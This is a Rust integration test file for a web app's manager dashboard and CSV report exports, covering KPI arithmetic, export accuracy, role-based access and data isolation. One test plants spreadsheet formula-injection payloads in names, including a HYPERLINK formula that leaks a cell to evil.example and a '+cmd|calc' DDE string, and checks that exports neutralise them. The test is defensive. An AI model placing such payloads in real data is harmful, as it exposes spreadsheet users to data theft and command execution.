//! Dashboard and reports through HTTP on crafted rows: every KPI equals a hand computation,
//! live and from the rollups; CSV exports parse back and match the database; bets leave no
//! trace; only managers reach the dashboard and exports, and clients and workers see only
//! their own numbers.

use std::collections::BTreeMap;

use reqwest::StatusCode;
use rusqlite::params;
use scraper::{Html, Selector};

use crate::helpers::*;
use crate::reports_data::{PERIOD, at, craft};

/// Every `data-kpi` on the page with its `data-value`.
fn kpis(html: &Html) -> BTreeMap<String, String> {
    let sel = Selector::parse("[data-kpi]").unwrap();
    html.select(&sel)
        .map(|e| {
            let v = e.value();
            (
                v.attr("data-kpi").unwrap().to_string(),
                v.attr("data-value").unwrap_or("").to_string(),
            )
        })
        .collect()
}

async fn manager(app: &TestApp) -> TestClient {
    app.login_as("manager").await.0
}

#[tokio::test]
async fn every_kpi_equals_its_hand_computation_live_and_from_the_rollups() {
    let app = spawn_app().await;
    craft(&app);
    let manager = manager(&app).await;
    let expected: BTreeMap<&str, &str> = [
        ("placed", "4"),
        ("completed", "2"),
        ("completion_rate", "5000"),
        ("cancellation_rate", "2500"),
        // Matched after 10, 30 and 50 minutes; completed after 90 and 1500 (lower median).
        ("median_match", "30"),
        ("median_complete", "90"),
        // 10,000 + 5,000 + 700 fee − 1,000 refund.
        ("revenue", "14700"),
        ("commission", "3500"),
        ("payments", "4000"),
        ("refunds", "1000"),
        ("payouts", "3000"),
        ("fines", "300"),
        ("bonuses", "200"),
        ("receivables", "6700"),
        ("overdue", "5700"),
        ("rating_avg", "450"),
        ("qc_avg", "200"),
        ("stock_alerts", "1"),
    ]
    .into_iter()
    .collect();
    // First computed live (the rows are new), then read back from the rollups the job built.
    for pass in ["live", "rollups"] {
        let (status, html) = manager.get_html(&format!("/manage?{PERIOD}")).await;
        assert_eq!(status, StatusCode::OK);
        let got = kpis(&html);
        for (kpi, value) in &expected {
            assert_eq!(
                got.get(*kpi).map(String::as_str),
                Some(*value),
                "{kpi} ({pass})"
            );
        }
        let by_status = |s: &str| text(&html, &format!("tr[data-status={s}] td.num"));
        assert_eq!(
            by_status("assigned"),
            "1 0",
            "this period, then the previous one ({pass})"
        );
        assert_eq!(by_status("completed"), "2 1");
        let funnel = text(&html, "#funnel-table tr[data-version='1']");
        assert!(
            funnel.contains("2") && funnel.replace(char::is_whitespace, "").ends_with("2111"),
            "{funnel}"
        );
        assert!(text(&html, ".delta").contains("was"));
        app.drain().await;
        assert_eq!(app.count("SELECT COUNT(*) FROM report_dirty_days"), 0);
    }
    // The previous period (Saturday and Sunday) holds order 6 alone.
    let (_, html) = manager
        .get_html("/manage?period=custom&from=2026-02-21&to=2026-02-22")
        .await;
    let got = kpis(&html);
    assert_eq!(got["placed"], "1");
    assert_eq!(got["revenue"], "4000");
    // 200 minutes to complete: beyond two hours a median is kept to the quarter hour.
    assert_eq!(got["median_complete"], "195");
    // Charts: titled, labelled, with their tables.
    let (_, html) = manager.get_html(&format!("/manage?{PERIOD}")).await;
    for id in ["orders-chart", "revenue-chart", "funnel-chart"] {
        assert!(
            first_attr(&html, &format!("#{id} svg"), "aria-labelledby").is_some(),
            "{id}"
        );
    }
    assert!(text(&html, "#orders-chart table").contains("23 Feb"));
    // `check`'s rollup invariant: equal to a recomputation, and a tampered day is named.
    let conn = app.state.pool.get().unwrap();
    let mismatches = whiskerworks::reports::store::rollup::mismatches;
    assert_eq!(mismatches(&conn).unwrap(), Vec::<String>::new());
    app.write(|tx| {
        tx.execute(
            "UPDATE report_days SET value = value + 1 WHERE metric = 'orders' AND day = '2026-02-23'",
            [],
        )?;
        tx.execute("DELETE FROM report_days WHERE day = '2026-02-22'", [])
    });
    assert_eq!(
        mismatches(&conn).unwrap(),
        [
            "report_days for 2026-02-22 differ from a recomputation from the raw rows",
            "report_days for 2026-02-23 differ from a recomputation from the raw rows"
        ]
    );
}

#[tokio::test]
async fn a_bad_period_says_why_and_shows_the_month() {
    let app = spawn_app().await;
    let manager = manager(&app).await;
    for (query, message) in [
        (
            "period=custom&from=2026-02-24&to=2026-02-01",
            "after the end date",
        ),
        ("period=custom&from=2026-02-30&to=2026-03-01", "YYYY-MM-DD"),
        ("period=custom&from=1990-01-01&to=2026-03-01", "ten years"),
        ("period=fortnight", "not one we know"),
    ] {
        let (status, html) = manager.get_html(&format!("/manage?{query}")).await;
        assert_eq!(status, StatusCode::OK, "{query}");
        assert!(text(&html, ".flash.error").contains(message), "{query}");
        assert_eq!(
            first_attr(&html, ".tabs a[aria-current=page]", "href").as_deref(),
            Some("/manage?period=month")
        );
        // An export with a bad period goes back to the dashboard, which says the same.
        let res = manager
            .get(&format!("/manage/reports/orders.csv?{query}"))
            .await;
        assert_eq!(res.status(), StatusCode::SEE_OTHER);
        assert_eq!(location(&res), format!("/manage?{query}"));
    }
    assert_eq!(
        manager.get("/manage/reports/bets.csv").await.status(),
        StatusCode::NOT_FOUND
    );
}

async fn csv_rows(who: &TestClient, what: &str) -> (Vec<String>, Vec<csv::StringRecord>) {
    let res = who
        .get(&format!("/manage/reports/{what}.csv?{PERIOD}"))
        .await;
    assert_eq!(res.status(), StatusCode::OK, "{what}");
    assert!(
        res.headers()["content-type"]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    let body = res.text().await.unwrap();
    assert!(body.contains("\r\n"), "RFC 4180 line ends");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader.headers().unwrap().iter().map(String::from).collect();
    (header, reader.records().map(Result::unwrap).collect())
}

#[tokio::test]
async fn exports_parse_back_and_match_the_database() {
    let app = spawn_app().await;
    let crafted = craft(&app);
    let manager = manager(&app).await;
    let conn = app.state.pool.get().unwrap();

    let (header, rows) = csv_rows(&manager, "orders").await;
    assert_eq!(
        header[..4],
        ["order_id", "placed_at", "scheduled_at", "status"]
    );
    let ids: Vec<i64> = rows.iter().map(|r| r[0].parse().unwrap()).collect();
    let o = &crafted.orders;
    assert_eq!(
        ids,
        [o[0], o[1], o[3], o[2]],
        "the period's orders, oldest first"
    );
    for r in &rows {
        let (status, total, client): (String, i64, String) = conn
            .query_row(
                "SELECT o.status, o.total_minor, u.name FROM orders o JOIN users u ON u.id = o.client_id WHERE o.id = ?1",
                [&r[0]],
                |x| Ok((x.get(0)?, x.get(1)?, x.get(2)?)),
            )
            .unwrap();
        assert_eq!(
            (&r[3], r[9].parse::<i64>().unwrap(), &r[6]),
            (status.as_str(), total, client.as_str())
        );
    }
    // Times in the business zone: order 4 was placed at 00:30 Moscow.
    assert_eq!(&rows[2][1], "2026-02-24T00:30:00+03:00");
    assert_eq!(&rows[0][6], "Smith, \"Anna\"");

    let (header, rows) = csv_rows(&manager, "ledger").await;
    assert_eq!(
        header,
        [
            "entry_id",
            "transaction_id",
            "created_at",
            "kind",
            "idempotency_key",
            "reference",
            "account",
            "amount_minor",
            "memo"
        ]
    );
    let in_period = app.count(&format!(
        "SELECT COUNT(*) FROM ledger_entries e JOIN ledger_transactions t ON t.id = e.transaction_id
         WHERE t.created_at >= '{}' AND t.created_at < '{}'",
        at("2026-02-23 00:00"),
        at("2026-02-25 00:00")
    ));
    assert_eq!(rows.len() as i64, in_period);
    let mut per_txn: BTreeMap<String, i64> = BTreeMap::new();
    for r in &rows {
        let amount: i64 = conn
            .query_row(
                "SELECT amount_minor FROM ledger_entries WHERE id = ?1",
                [&r[0]],
                |x| x.get(0),
            )
            .unwrap();
        assert_eq!(r[7].parse::<i64>().unwrap(), amount);
        *per_txn.entry(r[1].to_string()).or_default() += amount;
    }
    assert!(
        per_txn.values().all(|sum| *sum == 0),
        "every transaction balances"
    );
    // Orders 1 and 2, the fee, bonus, fine, refund, payment and payout.
    assert_eq!(per_txn.len(), 8);

    let (_, rows) = csv_rows(&manager, "invoices").await;
    assert_eq!(rows.len(), 2);
    assert_eq!((&rows[0][5], &rows[0][6]), ("past_due", "5700"));
    let (_, rows) = csv_rows(&manager, "payouts").await;
    assert_eq!(rows.len(), 1);
    assert_eq!(
        (rows[0][1].parse::<i64>().unwrap(), &rows[0][5]),
        (crafted.worker, "3000")
    );
    assert_eq!(&rows[0][12], "2026-02-24T21:00:00+03:00");
}

#[tokio::test]
async fn bets_leave_the_dashboard_and_exports_untouched() {
    let app = spawn_app().await;
    let crafted = craft(&app);
    let manager = manager(&app).await;
    let page = |html: Html| text(&html, "main");
    let before = page(manager.get_html(&format!("/manage?{PERIOD}")).await.1);
    let mut exports_before = Vec::new();
    for what in ["orders", "ledger", "invoices", "payouts"] {
        exports_before.push(
            manager
                .get(&format!("/manage/reports/{what}.csv?{PERIOD}"))
                .await
                .text()
                .await
                .unwrap(),
        );
    }
    app.write(|c| {
        c.execute(
            "INSERT INTO bets_books (order_id, proposition, status, created_at) VALUES (?1, 'cancelled', 'open', ?2)",
            params![crafted.orders[3], at("2026-02-24 10:00")],
        )?;
        c.execute(
            "INSERT INTO bets_stakes (book_id, manager_id, side, amount_minor, placed_at) VALUES (?1, 1, 1, 777777, ?2)",
            params![c.last_insert_rowid(), at("2026-02-24 10:00")],
        )
    });
    let after = page(manager.get_html(&format!("/manage?{PERIOD}")).await.1);
    assert_eq!(before, after);
    for (i, what) in ["orders", "ledger", "invoices", "payouts"]
        .iter()
        .enumerate()
    {
        let body = manager
            .get(&format!("/manage/reports/{what}.csv?{PERIOD}"))
            .await
            .text()
            .await
            .unwrap();
        assert_eq!(body, exports_before[i], "{what}");
        assert!(
            !body.contains("777777") && !body.to_lowercase().contains("bet"),
            "{what}"
        );
    }
}

#[tokio::test]
async fn only_managers_see_the_dashboard_and_people_see_only_their_own_numbers() {
    let app = spawn_app().await;
    let crafted = craft(&app);
    for role in ["client", "worker", "candidate"] {
        let (who, _) = app.login_as(role).await;
        assert_eq!(
            who.get("/manage").await.status(),
            StatusCode::FORBIDDEN,
            "{role}"
        );
        for what in ["orders", "ledger", "invoices", "payouts"] {
            let res = who
                .get(&format!("/manage/reports/{what}.csv?{PERIOD}"))
                .await;
            assert_eq!(res.status(), StatusCode::FORBIDDEN, "{role} {what}");
        }
    }
    // Anna: orders 1, 2, 5, 6 completed, 3 cancelled; billed 10,000 + 5,000 + 700 + 9,000
    // + 4,000 − 1,000 in all; 6,700 in open invoices. The clock is in March: nothing this month.
    let anna = app.client();
    anna.login("anna@example.com", PASSWORD).await;
    let (status, html) = anna.get_html("/client").await;
    assert_eq!(status, StatusCode::OK);
    let got = kpis(&html);
    assert!(got.contains_key("completed_orders"), "{}", html.html());
    assert_eq!(got["completed_orders"], "4");
    assert_eq!(got["open_orders"], "0");
    assert_eq!(got["spend_total"], "27700");
    assert_eq!(got["spend_month"], "0");
    assert_eq!(got["open_invoices"], "6700");
    let boris = app.client();
    boris.login("boris@example.com", PASSWORD).await;
    let got = kpis(&boris.get_html("/client").await.1);
    assert_eq!(
        (
            got["open_orders"].as_str(),
            got["spend_total"].as_str(),
            got["open_invoices"].as_str()
        ),
        ("1", "0", "0")
    );
    // Move the clock into February: the worker's month then holds the period's earnings.
    app.clock.set(
        chrono::DateTime::parse_from_rfc3339("2026-02-26T12:00:00+03:00")
            .unwrap()
            .into(),
    );
    let wera = app.client();
    wera.login("wera@example.com", PASSWORD).await;
    let got = kpis(&wera.get_html("/worker").await.1);
    // 8,000 + 4,000 + 7,200 + 3,200 earned, + 200 bonus − 300 fine − 800 refund.
    assert_eq!(got["earned_month"], "21500");
    assert_eq!(got["upcoming_jobs"], "1");
    let _ = crafted.other_client;
    let (other_worker, _) = app.login_as("worker").await;
    let got = kpis(&other_worker.get_html("/worker").await.1);
    assert_eq!(
        (got["earned_month"].as_str(), got["upcoming_jobs"].as_str()),
        ("0", "0")
    );
}

#[tokio::test]
async fn generated_history_keeps_every_invariant_and_its_rollups_match() {
    let app = spawn_app().await;
    let now = app.clock_now();
    let tz = app.state.settings().time_zone;
    let plan = whiskerworks::ops::generate::Plan {
        workers: None,
        days: 20,
        orders_per_day: 30,
        seed: 5,
        today: whiskerworks::reports::model::period::business_day(tz, now),
    };
    let mut conn = app.state.pool.get().unwrap();
    let made = whiskerworks::ops::generate::run(&mut conn, tz, plan, now, &mut |_| {}).unwrap();
    assert!(
        made.orders >= 20 * 27 && made.days_rolled_up >= 20,
        "{made:?}"
    );
    // Generating twice into the same database is refused.
    assert!(whiskerworks::ops::generate::run(&mut conn, tz, plan, now, &mut |_| {}).is_err());
    drop(conn);
    let problems = whiskerworks::ops::check::check(app.dir.path()).unwrap();
    assert!(problems.is_empty(), "{problems:?}");
    let manager = manager(&app).await;
    let got = kpis(&manager.get_html("/manage?period=month").await.1);
    assert_ne!(got["placed"], "0");
}

/// What a spreadsheet would run as a formula: a cell starting with one of these that is not
/// a plain number.
fn is_formula(cell: &str) -> bool {
    let number = cell
        .trim_start_matches(['-', '+'])
        .split('.')
        .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()));
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

#[tokio::test]
async fn no_export_carries_a_spreadsheet_formula_from_a_name() {
    let app = spawn_app().await;
    let crafted = craft(&app);
    let payload = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    app.write(|c| {
        c.execute(
            "UPDATE users SET name = ?1 WHERE role = 'client'",
            [payload],
        )?;
        c.execute(
            "UPDATE users SET name = '@SUM(1+1)' WHERE id = ?1",
            [crafted.worker],
        )?;
        c.execute("UPDATE services SET code = '+cmd|calc'", [])
    });
    let manager = manager(&app).await;

    let mut neutralised = 0;
    for what in ["orders", "ledger", "invoices", "payouts"] {
        let (_, rows) = csv_rows(&manager, what).await;
        for row in &rows {
            for cell in row {
                assert!(!is_formula(cell), "{what}: {cell:?}");
                if cell == format!("'{payload}") {
                    neutralised += 1;
                }
            }
        }
    }
    assert!(neutralised > 0, "the client's name is kept after its quote");
    let (_, orders) = csv_rows(&manager, "orders").await;
    assert!(orders.iter().any(|r| r.iter().any(|c| c == "'@SUM(1+1)")));
    assert!(orders.iter().any(|r| r.iter().any(|c| c == "'+cmd|calc")));
    // Negative amounts stay numbers.
    let (_, ledger) = csv_rows(&manager, "ledger").await;
    assert!(
        ledger
            .iter()
            .any(|r| r[7].starts_with('-') && r[7][1..].parse::<i64>().is_ok())
    );
}

#[tokio::test]
async fn the_dashboard_and_billing_use_one_money_vocabulary_defined_once() {
    let app = spawn_app().await;
    let boss = manager(&app).await;
    let (_, dashboard) = boss.get_html("/manage").await;
    let (_, billing) = boss.get_html("/manage/billing").await;

    for page in [&dashboard, &billing] {
        let shown = text(page, "main");
        assert!(
            !shown.contains("Revenue"),
            "no word with two meanings: {shown}"
        );
        let glossary = text(page, "details.glossary");
        for word in [
            "Billed for work",
            "Company commission",
            "Collected from clients",
            "Paid to workers",
        ] {
            assert_eq!(glossary.matches(word).count(), 1, "{word} defined once");
        }
    }
    assert!(text(&dashboard, "[data-kpi=revenue]").contains("Billed for work"));
    assert!(text(&billing, ".kpis").contains("Company commission this month"));
    assert!(
        first_attr(&billing, ".kpis article[title]", "title")
            .unwrap()
            .contains("share of what was billed")
    );
}
